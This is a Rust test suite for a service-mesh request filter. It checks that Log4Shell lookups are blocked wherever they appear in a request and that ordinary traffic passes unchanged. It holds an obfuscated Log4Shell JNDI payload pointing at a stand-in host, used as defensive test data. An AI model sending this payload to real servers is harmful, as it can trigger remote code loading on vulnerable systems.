//! MeshRequestFilter: what an application must not see does not reach it, and the rest does, byte for byte.

use crate::{
    apps::{
        Answer, absolute, failing_app, get, http_app, http1, http2, raw, request, streaming, text, whole,
    },
    world::{Pair, soon, until},
};
use bytes::Bytes;
use http::{HeaderMap, Method, Request, Response};
use http_body_util::BodyExt;
use hyper::body::Frame;
use meridian_proxy_config::{
    CallerMatch, Effect, Fault, FaultRule, FilterAction, FilterPattern, Protocol, RequestFilter, RequestPart,
    RuleSet,
};
use std::{io::Write, net::SocketAddr};

const ATTACK: &str = "${${lower:j}${::-n}di:ldap://evil.example/a}";
const ORDINARY: &str = include_str!("../../../request-filter/tests/corpus/ordinary.txt");

fn filter() -> RequestFilter {
    RequestFilter {
        policy: "no-lookups".into(),
        rule_sets: vec![RuleSet::Log4shell],
        patterns: vec![],
        action: FilterAction::Block,
        status: 403,
        max_body_bytes: 1 << 20,
        on_limit: FilterAction::Block,
    }
}

/// Two sidecars, and before the application of the second a filter.
async fn filtered(protocol: Protocol, application: SocketAddr, filter: RequestFilter) -> Pair {
    let pair = Pair::start(protocol, application).await;
    pair.inbound_policies(|policies| policies.filter = Some(filter)).await;
    pair
}

/// An application that reads each request to its end before it gives the body back.
async fn patient(http2: bool) -> SocketAddr {
    failing_app(http2, 0, || Response::new(text(""))).await.0
}

async fn send(pair: &Pair, request: Request<crate::apps::Payload>) -> Answer {
    let mut client = http1(pair.outbound).await;
    whole(soon("an answer", client.send_request(request)).await.unwrap()).await
}

/// Blocked and observed requests.
fn counted(pair: &Pair) -> (u64, u64) {
    let traffic = pair.backend.engine.shared().metrics.traffic("inbound", "backend");
    (traffic.cell(0).filter_blocked.value(), traffic.cell(0).filter_observed.value())
}

fn reported(pair: &Pair) -> Vec<(String, String, u64)> {
    let report = pair.backend.engine.shared().denials.snapshot();
    report.denials.into_iter().map(|row| (row.reason, row.rule, row.count)).collect()
}

fn gzip(text: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(text).unwrap();
    encoder.finish().unwrap()
}

fn message(text: &[u8]) -> Vec<u8> {
    [&[0][..], &u32::try_from(text.len()).unwrap().to_be_bytes(), text].concat()
}

fn post(body: impl Into<Bytes>, headers: &[(&'static str, &str)]) -> Request<crate::apps::Payload> {
    let mut request = request(Method::POST, "/echo", text(body));
    for (name, value) in headers {
        request.headers_mut().insert(*name, value.parse().unwrap());
    }
    request
}

#[tokio::test]
async fn a_lookup_in_the_head_does_not_reach_the_application() {
    let (application, seen) = http_app(false).await;
    let pair = filtered(Protocol::Http, application, filter()).await;
    let escaped = ATTACK.replace('{', "%7B").replace('}', "%7d").replace('$', "%2524");
    for (path, header) in
        [(format!("/{escaped}"), "x"), (format!("/headers?q={escaped}"), "x"), ("/headers".into(), ATTACK)]
    {
        let mut request = get(&path);
        request.headers_mut().insert("user-agent", header.parse().unwrap());
        let answer = send(&pair, request).await;
        assert_eq!((answer.status, answer.denied()), (403, Some("request-filter")), "{path}");
    }
    assert_eq!((seen.requests(), counted(&pair)), (0, (3, 0)));
    let rule = "no-lookups: log4shell in the headers".to_owned();
    assert_eq!(reported(&pair), [("request-filter".to_owned(), rule, 3)]);
    assert_eq!(send(&pair, get("/headers")).await.status, 200);
}

#[tokio::test]
async fn a_lookup_in_a_body_is_found_however_it_is_split() {
    let pair = filtered(Protocol::Http, patient(false).await, filter()).await;
    let body = Bytes::from(format!(r#"{{"user":"{ATTACK}","more":1}}"#));
    for at in 0..body.len() {
        let (sender, streamed) = streaming();
        let sent = body.clone();
        tokio::spawn(async move {
            for piece in [sent.slice(..at), sent.slice(at..)] {
                // Whoever is refused may not want the rest.
                drop(sender.send(Frame::data(piece)).await);
            }
        });
        let answer = send(&pair, request(Method::POST, "/", streamed)).await;
        assert_eq!((answer.status, answer.denied()), (403, Some("request-filter")), "{at}");
    }
    assert_eq!(counted(&pair), (body.len() as u64, 0));
}

#[tokio::test]
async fn a_lookup_in_a_compressed_body_is_found() {
    let pair = filtered(Protocol::Http, patient(false).await, filter()).await;
    let body = gzip(format!(r#"{{"user":"{ATTACK}"}}"#).as_bytes());
    let answer = send(&pair, post(body, &[("content-encoding", "gzip")])).await;
    assert_eq!((answer.status, answer.denied()), (403, Some("request-filter")));
    let unknown = send(&pair, post("?", &[("content-encoding", "compress")])).await;
    assert_eq!((unknown.status, unknown.denied()), (403, Some("request-filter")));
    let rule = "no-lookups: the body is encoded in a way that is not known".to_owned();
    assert_eq!(reported(&pair), [("request-filter".to_owned(), rule, 2)]);
}

#[tokio::test]
async fn a_lookup_in_a_message_is_found() {
    let pair = filtered(Protocol::Grpc, patient(true).await, filter()).await;
    let call = async |body: Vec<u8>| {
        let mut request = absolute(Method::POST, "/shop.Orders/Add", text(body));
        request.headers_mut().insert("content-type", "application/grpc".parse().unwrap());
        let mut client = http2(pair.outbound).await;
        whole(soon("an answer", client.send_request(request)).await.unwrap()).await
    };
    let (good, bad) = (message(b"\x0a\x05hello"), message(ATTACK.as_bytes()));
    let answer = call([good.clone(), bad].concat()).await;
    assert_eq!((answer.status, answer.denied()), (200, Some("request-filter")));
    assert_eq!(answer.headers["grpc-status"], "7");
    let stream = [good.clone(), message(b"\x0a\x02${"), good].concat();
    assert_eq!(call(stream.clone()).await.body, stream);
    assert_eq!(counted(&pair), (1, 0));
}

/// A conversation does not stall: each message is passed on when it is whole.
#[tokio::test]
async fn messages_are_answered_one_by_one() {
    let (application, _) = http_app(true).await;
    let pair = filtered(Protocol::Grpc, application, filter()).await;
    let (sender, body) = streaming();
    let mut request = absolute(Method::POST, "/echo", body);
    request.headers_mut().insert("content-type", "application/grpc".parse().unwrap());
    let mut client = http2(pair.outbound).await;
    let mut response = soon("the head", client.send_request(request)).await.unwrap();
    for text in ["one", "two $", "${three"] {
        let sent = Bytes::from(message(text.as_bytes()));
        sender.send(Frame::data(sent.clone())).await.unwrap();
        let mut come = Vec::new();
        while come.len() < sent.len() {
            let frame = soon("the echo", response.frame()).await.unwrap().unwrap();
            come.extend_from_slice(frame.data_ref().unwrap());
        }
        assert_eq!(come, sent);
    }
    sender.send(Frame::data(message(ATTACK.as_bytes()).into())).await.unwrap();
    // The answer has begun: all that is left is to end it.
    assert!(soon("the end", response.collect()).await.is_err());
    assert_eq!(counted(&pair), (1, 0));
}

#[tokio::test]
async fn trailers_are_examined() {
    for (trailer, passes) in [("7", true), (ATTACK, false)] {
        let (application, _) = http_app(true).await;
        let pair = filtered(Protocol::Http2, application, filter()).await;
        let (sender, body) = streaming();
        let mut client = http2(pair.outbound).await;
        let response =
            soon("the head", client.send_request(absolute(Method::POST, "/echo", body))).await.unwrap();
        let trailers: HeaderMap =
            [("x-sum".parse().unwrap(), trailer.parse().unwrap())].into_iter().collect();
        sender.send(Frame::data(Bytes::from_static(b"text"))).await.unwrap();
        sender.send(Frame::trailers(trailers)).await.unwrap();
        drop(sender);
        let answer = soon("the end", response.collect()).await;
        assert_eq!(answer.is_ok_and(|body| body.trailers().unwrap()["x-sum"] == "7"), passes);
        assert_eq!(counted(&pair), (u64::from(!passes), 0));
    }
}

#[tokio::test]
async fn ordinary_requests_pass_byte_for_byte() {
    let (application, _) = http_app(false).await;
    let mut filter = filter();
    filter.patterns = vec![FilterPattern {
        name: "never".into(),
        regex: "no such thing".into(),
        places: vec![RequestPart::Body, RequestPart::Headers],
    }];
    let pair = filtered(Protocol::Http, application, filter).await;
    let large = Bytes::from(ORDINARY.repeat(100));
    let zipped = Bytes::from(gzip(&large));
    for (body, coding) in
        [(large.clone(), "identity"), (zipped, "gzip"), (Bytes::from_static(b"$"), "identity")]
    {
        let answer = send(&pair, post(body.clone(), &[("content-encoding", coding)])).await;
        assert!(answer.status == 200 && answer.body == body, "{coding}");
    }
    for (i, line) in ORDINARY.lines().enumerate() {
        let mut request = get(&format!("/headers?line={i}"));
        request.headers_mut().insert("x-line", http::HeaderValue::from_bytes(line.as_bytes()).unwrap());
        let answer = send(&pair, request).await;
        assert!(answer.text().contains(&format!("x-line: {line}\n")), "{line}: {}", answer.text());
    }
    let (sender, body) = streaming();
    let sent = large.clone();
    tokio::spawn(async move {
        for piece in sent.chunks(999) {
            sender.send(Frame::data(Bytes::copy_from_slice(piece))).await.unwrap();
        }
    });
    assert!(send(&pair, request(Method::POST, "/echo", body)).await.body == large);
    assert_eq!(counted(&pair), (0, 0));
}

#[tokio::test]
async fn observing_counts_and_lets_through() {
    let (application, seen) = http_app(false).await;
    let filter = RequestFilter {
        action: FilterAction::Observe,
        on_limit: FilterAction::Observe,
        patterns: vec![FilterPattern {
            name: "last".into(),
            regex: "word$".into(),
            places: vec![RequestPart::Body],
        }],
        ..filter()
    };
    let pair = filtered(Protocol::Http, application, filter).await;
    for (body, coding) in
        [(ATTACK, "identity"), ("the last word", "identity"), ("this is no gzip at all", "gzip")]
    {
        let answer = send(&pair, post(body, &[("content-encoding", coding)])).await;
        assert_eq!((answer.status, answer.text(), answer.denied()), (200, body, None));
    }
    assert_eq!((seen.requests(), counted(&pair)), (3, (0, 3)));
    let rule = "no-lookups: the body is damaged".to_owned();
    assert_eq!(reported(&pair), [("request-filter-observed".to_owned(), rule, 3)]);
}

#[tokio::test]
async fn what_is_too_long_is_blocked_unless_the_rule_says_otherwise() {
    for (on_limit, status) in [(FilterAction::Block, 413), (FilterAction::Observe, 200)] {
        let (application, _) = http_app(false).await;
        let filter = RequestFilter { on_limit, status: 413, max_body_bytes: 10, ..filter() };
        let pair = filtered(Protocol::Http, application, filter).await;
        assert_eq!(send(&pair, post("0123456789", &[])).await.status, 200);
        assert_eq!(send(&pair, post("0123456789a", &[])).await.status, status);
        assert_eq!(send(&pair, post(ATTACK, &[])).await.status, status);
    }
}

/// Each with a pattern that looks in one place; the word is in one place of each request.
#[tokio::test]
async fn a_pattern_looks_where_it_is_told_to() {
    let pair = Pair::start(Protocol::Http2, patient(true).await).await;
    let places = [
        RequestPart::Path,
        RequestPart::Query,
        RequestPart::HeaderNames,
        RequestPart::Headers,
        RequestPart::Body,
        RequestPart::Trailers,
    ];
    for place in places {
        let pattern = FilterPattern { name: "word".into(), regex: "need+le".into(), places: vec![place] };
        let filter = RequestFilter { rule_sets: vec![], patterns: vec![pattern], ..filter() };
        pair.inbound_policies(|policies| policies.filter = Some(filter)).await;
        for of in places {
            let (sender, body) = streaming();
            let target = match of {
                RequestPart::Path => "/a/needle",
                RequestPart::Query => "/a?b=needle",
                _ => "/a",
            };
            let mut request = absolute(Method::POST, target, body);
            match of {
                RequestPart::HeaderNames => {
                    drop(request.headers_mut().insert("x-needle", "a".parse().unwrap()))
                }
                RequestPart::Headers => {
                    drop(request.headers_mut().insert("x-a", "a needle".parse().unwrap()))
                }
                _ => {}
            }
            let mut client = http2(pair.outbound).await;
            let answer = tokio::spawn(client.send_request(request));
            let words = if of == RequestPart::Body { "a needle" } else { "hay" };
            // Whoever is refused may not want the rest.
            drop(sender.send(Frame::data(Bytes::from_static(words.as_bytes()))).await);
            if of == RequestPart::Trailers {
                let trailers = HeaderMap::from_iter([("x-sum".parse().unwrap(), "needle".parse().unwrap())]);
                drop(sender.send(Frame::trailers(trailers)).await);
            }
            drop(sender);
            let answer = whole(soon("an answer", answer).await.unwrap().unwrap()).await;
            let expected = if of == place { (403, Some("request-filter")) } else { (200, None) };
            assert_eq!((answer.status, answer.denied()), expected, "{place:?} {of:?}");
        }
        let last = reported(&pair).pop().unwrap().1;
        assert!(last.starts_with("no-lookups: word in"), "{last}");
    }
}

/// The rules that come with the mesh are a choice like any other.
#[tokio::test]
async fn without_a_set_of_rules_lookups_pass() {
    let (application, _) = http_app(false).await;
    let pair = filtered(Protocol::Http, application, RequestFilter { rule_sets: vec![], ..filter() }).await;
    let mut request = get("/headers");
    request.headers_mut().insert("user-agent", ATTACK.parse().unwrap());
    assert_eq!(send(&pair, request).await.status, 200);
}

#[tokio::test]
async fn a_body_that_waits_for_a_word_is_examined_too() {
    let pair = filtered(Protocol::Http, patient(false).await, filter()).await;
    for (body, status) in [("text", "200"), (ATTACK, "403")] {
        let head = "POST / HTTP/1.1\r\nHost: b\r\nExpect: 100-continue\r\nConnection: close\r\n";
        let length = body.len();
        let waiting = format!("{head}Content-Length: {length}\r\n\r\n{body}");
        let answer = raw(pair.outbound, waiting.as_bytes()).await;
        assert!(answer.contains(&format!("HTTP/1.1 {status}")), "{answer}");
    }
}

/// An upgrade's body would go where nobody looks at it: the request is then an ordinary one.
#[tokio::test]
async fn an_upgrade_hides_no_body() {
    let pair = filtered(Protocol::Http, patient(false).await, filter()).await;
    let head = "POST /echo HTTP/1.1\r\nHost: b\r\nConnection: Upgrade\r\nUpgrade: chat\r\n";
    let length = ATTACK.len();
    let answer =
        raw(pair.outbound, format!("{head}Content-Length: {length}\r\n\r\n{ATTACK}").as_bytes()).await;
    assert!(answer.contains("x-meridian-denied: request-filter") && !answer.contains("jndi"), "{answer}");
    let (application, _) = http_app(false).await;
    let pair = filtered(Protocol::Http, application, filter()).await;
    let upgrade = "GET /upgrade HTTP/1.1\r\nHost: b\r\nConnection: Upgrade\r\nUpgrade: chat\r\n\r\n";
    assert!(raw(pair.outbound, upgrade.as_bytes()).await.starts_with("HTTP/1.1 101"));
}

/// A first finding that is only observed ends no body's limits.
#[tokio::test]
async fn limits_block_what_is_otherwise_observed() {
    let filter =
        RequestFilter { action: FilterAction::Observe, max_body_bytes: 100, status: 413, ..filter() };
    let pair = filtered(Protocol::Http, patient(false).await, filter).await;
    let (sender, body) = streaming();
    tokio::spawn(async move {
        for _ in 0..10 {
            // Whoever is refused may not want the rest.
            drop(sender.send(Frame::data(Bytes::from_static(ATTACK.as_bytes()))).await);
        }
    });
    let answer = send(&pair, request(Method::POST, "/", body)).await;
    assert_eq!((answer.status, answer.denied()), (413, Some("request-filter")));
    assert_eq!(counted(&pair), (1, 1));
}

/// Whoever waits for a fault's delay meets the filter that is in force when it ends.
#[tokio::test]
async fn a_filter_that_comes_during_a_delay_is_in_force() {
    let (application, seen) = http_app(false).await;
    let pair = Pair::start(Protocol::Http, application).await;
    let delay = Fault { per_million: 1_000_000, effect: Effect::Delay(1_500) };
    let slow = FaultRule { caller: CallerMatch::default(), faults: vec![delay], first_only: false };
    pair.inbound_policies(|policies| policies.faults = vec![slow]).await;
    let mut attack = get("/headers");
    attack.headers_mut().insert("user-agent", ATTACK.parse().unwrap());
    let mut client = http1(pair.outbound).await;
    let waiting = tokio::spawn(async move { client.send_request(attack).await.unwrap() });
    let traffic = pair.backend.engine.shared().metrics.traffic("inbound", "backend");
    until("it waits", async || (traffic.cell(0).faults_delayed.value() == 1).then_some(())).await;
    pair.inbound_policies(|policies| policies.filter = Some(filter())).await;
    let answer = whole(soon("an answer", waiting).await.unwrap()).await;
    assert_eq!((answer.status, answer.denied(), seen.requests()), (403, Some("request-filter"), 0));
}
